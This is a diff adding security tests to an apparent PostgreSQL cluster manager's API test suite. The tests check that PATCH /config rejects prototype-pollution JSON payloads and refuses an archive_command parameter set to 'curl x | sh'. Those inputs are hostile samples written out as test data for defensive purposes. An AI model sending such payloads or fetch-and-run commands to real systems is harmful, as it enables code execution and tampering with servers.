@@ -10,6 +10,7 @@ import type { Snapshot } from '../../src/agent/snapshot.js';
 import { buildApi, type AgentHandle, type ApiOptions } from '../../src/api/server.js';
 import { parseByteSize } from '../../src/model/size.js';
 import { mergePatch } from '../../src/config/patch.js';
+import { defaultDynamicConfig } from '../../src/config/schema.js';
 import { MemoryDcs } from '../../src/dcs/memory.js';
 import { KeelError } from '../../src/errors.js';
 import { member, NOW, primaryMember, primaryRuntime, replicaRuntime, snapshot } from './fixtures.js';
@@ -302,6 +303,37 @@ describe('cluster, history and config', () => {
     const broken = await w.call({ method: 'PATCH', url: '/config', headers: { ...auth, 'content-type': 'application/json' }, payload: '{"ttl":' });
     expect(broken.status).toBe(400);
     expect(broken.json.code).toBe('KEEL_USAGE');
+  });
+
+  it.each([
+    '{"__proto__": {"polluted": true}}',
+    '{"constructor": {"prototype": {"polluted": true}}}',
+    '{"constructor": 1}',
+    '{"prototype": {"polluted": true}}',
+    '{"ttl": 20, "postgresql_parameters": {"__proto__": {"polluted": true}}}',
+    '{"ttl": 20, "postgresql_parameters": {"constructor": "x"}}',
+  ])('PATCH /config %s is 400 KEEL_CONFIG_INVALID, changes nothing and pollutes nothing', async (payload) => {
+    const w = await world('node2');
+    await w.dcs.putConfig({ ...defaultDynamicConfig, ttl: 30 }, null);
+    const before = await w.dcs.readCluster();
+    const res = await w.call({ method: 'PATCH', url: '/config', headers: { ...auth, 'content-type': 'application/json' }, payload });
+    expect(res.status).toBe(400);
+    expect(res.json.code).toBe('KEEL_CONFIG_INVALID');
+    expect(res.json.message).toMatch(/__proto__|constructor|prototype/);
+    const after = await w.dcs.readCluster();
+    expect(after.config).toEqual(before.config);
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
+  });
+
+  it('PATCH /config refuses a parameter that runs commands, naming it, and writes nothing', async () => {
+    const w = await world('node2');
+    const res = await w.call({ method: 'PATCH', url: '/config', headers: auth, payload: { ttl: 20, postgresql_parameters: { work_mem: '64MB', archive_command: 'curl x | sh' } } });
+    expect(res.status).toBe(400);
+    expect(res.json.code).toBe('KEEL_CONFIG_INVALID');
+    expect(res.json.message).toContain('archive_command');
+    expect(res.json.message).toContain('node.yml');
+    expect((await w.dcs.readCluster()).config).toBeNull();
   });
 
   it('mergePatch follows RFC 7386', () => {
